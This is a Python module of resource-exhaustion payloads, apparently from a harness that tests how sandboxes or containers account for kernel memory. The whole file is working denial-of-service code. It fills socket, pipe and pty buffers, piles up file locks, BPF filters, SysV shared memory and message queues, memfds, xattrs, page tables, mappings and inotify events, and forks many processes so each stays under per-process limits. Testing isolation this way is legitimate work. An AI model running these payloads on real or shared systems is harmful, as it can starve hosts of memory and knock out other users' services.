"""Payloads that take memory of many kinds, each some 150 to 300 MB, and hold it."""

SPREAD = """
import fcntl, mmap, signal
kept = []

def attack():
    # processes that each take what they can: one alone runs into its limit of descriptors
    reader, writer = os.pipe()
    for place in range(PROCESSES):
        if os.fork() == 0:
            try:
                said = take(place)
            except (OSError, MemoryError) as error:
                said = error
            os.write(writer, f"{said}; ".encode())
            time.sleep(60)
    seen = b""
    while seen.count(b";") < PROCESSES:
        seen += os.read(reader, 9999)
    return seen.decode()[:300]
"""


def spread(take: str, processes: int = 10) -> str:
    return f"{SPREAD}\nPROCESSES = {processes}\n{take}"


UDP = spread("""
def take(place):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(100):
        kept.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        kept[-1].bind(("127.0.0.1", 0))
        for _ in range(4):
            sender.sendto(bytes(60_000), kept[-1].getsockname())
""")

STREAM = """
def fill(end):
    end.setblocking(False)
    try:
        while True:
            end.send(bytes(65_536))
    except BlockingIOError:
        pass
"""

TCP = spread(
    STREAM
    + """
def take(place):
    with socket.create_server(("127.0.0.1", 0)) as server:
        for _ in range(4):
            kept.extend([socket.create_connection(server.getsockname()), server.accept()[0]])
            fill(kept[-2]), fill(kept[-1])
"""
)

UNACCEPTED = spread(
    STREAM
    + """
def take(place):
    kept.append(socket.create_server(("127.0.0.1", 0), backlog=500))
    for _ in range(25):
        with socket.create_connection(kept[0].getsockname(), timeout=1) as end:
            fill(end)
""",
    4,
)

NETLINK = spread("""
def take(place):
    sender = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)  # NETLINK_USERSOCK
    sender.bind((0, 0))
    sender.setblocking(False)
    message = struct.pack("=IHHII", 100_000, 32, 0, 0, 0) + bytes(99_984)
    for _ in range(10):
        kept.append(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2))
        kept[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
        kept[-1].bind((0, 0))
        try:
            while True:
                sender.sendto(message, (kept[-1].getsockname()[0], 0))
        except BlockingIOError:
            pass
""")

UNIX = spread(
    STREAM
    + """
def take(place):
    for _ in range(100):
        kept.extend(socket.socketpair(socket.AF_UNIX, socket.{0}))
        fill(kept[-1])
"""
)

LOCKS = spread(
    """
def take(place):
    # of many files: those of one are a list that the kernel walks for each
    fds = [os.open("/workspace/%d-%d" % (place, n), os.O_CREAT | os.O_RDWR) for n in range(240)]
    for number in range(60, 0, -1):
        lock = struct.pack("hhqqi", fcntl.F_WRLCK, os.SEEK_SET, 2 * number, 1, 0)
        for fd in fds:
            fcntl.fcntl(fd, {0}, lock)
""",
    40,
)

PIPES = spread("""
def take(place):
    for _ in range(100):
        reader, writer = os.pipe()
        os.set_blocking(writer, False)
        try:
            fcntl.fcntl(writer, 1031, 1 << 20)  # F_SETPIPE_SZ
        except OSError:
            pass
        try:
            while True:
                os.write(writer, bytes(65_536))
        except BlockingIOError:
            pass
""")

TERMINALS = spread(
    """
def take(place):
    import termios
    for _ in range(70):
        ours, theirs = os.openpty()
        modes = termios.tcgetattr(theirs)
        modes[0] = modes[1] = modes[3] = 0
        termios.tcsetattr(theirs, termios.TCSANOW, modes)
        for fd in (ours, theirs):
            os.set_blocking(fd, False)
            try:
                while True:
                    os.write(fd, bytes(4096))
            except BlockingIOError:
                pass
""",
    40,
)

FILTERS = spread(
    """
def take(place):
    code = struct.pack("=HBBI", 0x34, 0, 0, 7) * 3900 + struct.pack("=HBBI", 6, 0, 0, 0xFFFF)
    kept.append(ctypes.create_string_buffer(code))
    program = struct.pack("=HxxxxxxQ", len(code) // 8, ctypes.addressof(kept[0]))
    for _ in range(100):
        kept.append(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM))
        kept[-1].setsockopt(socket.SOL_SOCKET, 26, program)  # SO_ATTACH_FILTER
""",
    40,
)

POLICIES = spread(
    """
def take(place):
    libc.mmap.restype, size = ctypes.c_void_p, 16 << 20
    for _ in range(10):
        kept.append(os.memfd_create("policies"))
        os.ftruncate(kept[-1], size)
        start = libc.mmap(None, ctypes.c_size_t(size), 3, 1, kept[-1], ctypes.c_long(0))
        for page in range(size >> 12):
            syscall(NUMBERS["mbind"], ctypes.c_void_p(start + (page << 12)), ctypes.c_long(4096),
                    1 + page % 3, ctypes.byref(ctypes.c_ulong(1)), ctypes.c_ulong(64), 0)
        libc.munmap(ctypes.c_void_p(start), ctypes.c_size_t(size))
""",
    14,
)

MEMORY = """
def attack():
    import mmap
    block = mmap.mmap(-1, 250_000_000, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    for _ in range(250):
        block.write(b"x" * 1_000_000)
    globals()["kept"] = block
    return "250 MB"
"""

MEMORY_FILES = """
kept = []
def attack():
    import fcntl
    for number in range(25):
        kept.append(os.memfd_create("file", 2))
        for _ in range(10):
            os.write(kept[-1], bytes(1_000_000))
        if {sealed}:
            fcntl.fcntl(kept[-1], 1033, 15)  # F_ADD_SEALS
    return "250 MB"
"""

SHM = """
def attack():
    libc.shmat.restype = ctypes.c_void_p
    for _ in range(25):
        ident = libc.shmget(0, 10_000_000, 0o1600)
        place = libc.shmat(ident, None, 0)
        ctypes.memset(place, 1, 10_000_000)
        libc.shmdt(ctypes.c_void_p(place))
    return "250 MB"
"""

MESSAGES = """
def attack():
    message = ctypes.create_string_buffer(struct.pack("l", 1) + bytes(8192))
    for number in range(16_000):
        ident = libc.msgget(0, 0o1600)
        for _ in range(2):
            libc.msgsnd(ident, message, ctypes.c_long(8192), 0o4000)
    return "250 MB"
"""

FILES_IN_MEMORY = """
def attack():
    for folder in ("/workspace", "/tmp"):
        for number in range(100_000):
            os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
    return "200000 files"
"""

ATTRIBUTES = """
def attack():
    for number in range(4000):
        with open(f"/workspace/{number}", "w") as file:
            os.setxattr(file.fileno(), "user.a", bytes(60_000))
    return "240 MB"
"""

PAGE_TABLES = """
kept = []
def attack():
    import mmap
    libc.mmap.restype = ctypes.c_void_p
    size = 100 << 30
    start = libc.mmap(None, ctypes.c_size_t(size), 1, 0x4022, -1, ctypes.c_long(0))
    if start == 2**64 - 1:
        raise OSError(ctypes.get_errno(), "")
    libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(size), 15)
    for place in range(start, start + size, 2 << 20):
        ctypes.c_char.from_address(place).value
    return "200 MB of page tables"
"""

MAPPINGS = spread(
    """
def take(place):
    libc.mmap.restype = ctypes.c_void_p
    for number in range(60_000):
        libc.mmap(None, ctypes.c_size_t(4096), 1 + number % 2 * 2, 0x22, -1, ctypes.c_long(0))
""",
    15,
)

EVENTS = spread(
    """
def take(place):
    os.mkdir(f"/workspace/{place}")
    for _ in range(10):
        fd = libc.inotify_init1(0)
        libc.inotify_add_watch(fd, f"/workspace/{place}".encode(), 0xFFF)
    for number in range(2000):
        path = f"/workspace/{place}/" + "n" * 200 + str(number)
        os.close(os.open(path, os.O_CREAT))
        os.unlink(path)
""",
    10,
)
